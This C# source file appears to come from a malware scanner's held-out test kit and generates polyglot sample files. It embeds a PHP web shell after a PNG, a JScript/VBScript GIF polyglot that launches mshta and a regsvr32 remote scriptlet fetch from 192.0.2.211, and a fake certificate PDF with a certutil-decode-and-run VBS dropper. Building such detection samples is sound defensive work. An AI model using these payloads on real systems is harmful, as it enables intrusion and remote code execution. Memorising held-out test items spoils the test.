using System.Text;
using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Pictures and papers that are something else at the same time, or carry something behind their end.</summary>
public sealed class Polyglots : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("avatar.png", [.. EighthPicture.Build(64, 64), .. Utf8("\n<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; die; } @eval(base64_decode($_POST['z'])); ?>\n")]);
        var jpeg = EighthPicture.Jpeg(64, 48);
        yield return ("new_image.jpg", [.. jpeg, .. Utf8("<<BASE64_START>>" + Convert.ToBase64String(InertFiles.Pe(6000)) + "<<BASE64_END>>")]);
        var program = new EighthImage { Is64 = false }.Runtime().Importing("KERNEL32.dll", "VirtualAllocEx WriteProcessMemory CreateRemoteThread").Section(".q", Noise(9000, 31), 0xE0000040).Build();
        yield return ("scan.gif", [.. "GIF89a/*"u8, .. new byte[] { 0x80, 0, 0 }, .. Noise(40, 2).Select(one => (byte)(one % 40 + 48)), .. Utf8("*/=1;var s=new ActiveXObject('WScr'+'ipt.Shell');s['R'+'un']('cmd /c copy /b \"'+WScript.ScriptFullName+'\" %TEMP%\\\\s.hta & mshta %TEMP%\\\\s.hta',0);//\n<script language=vbscript>CreateObject(\"Shell.Application\").ShellExecute \"regsvr32\",\"/s /u /i:http://192.0.2.211/s.sct scrobj.dll\",\"\",\"\",0</script>\n"), 0x3B]);
        yield return ("certificate.pdf", [.. PdfBuilder.Document(), .. Encoding.ASCII.GetBytes("\n-----BEGIN CERTIFICATE-----\r\n" + Wrapped(Convert.ToBase64String(program), 64).ReplaceLineEndings("\r\n") + "\r\n-----END CERTIFICATE-----\r\n"), .. InertFiles.Zip(("run.vbs", Dos("Set s=CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c certutil -f -decode certificate.pdf %TEMP%\\c.exe & %TEMP%\\c.exe\",0\n")))]);
    }
}
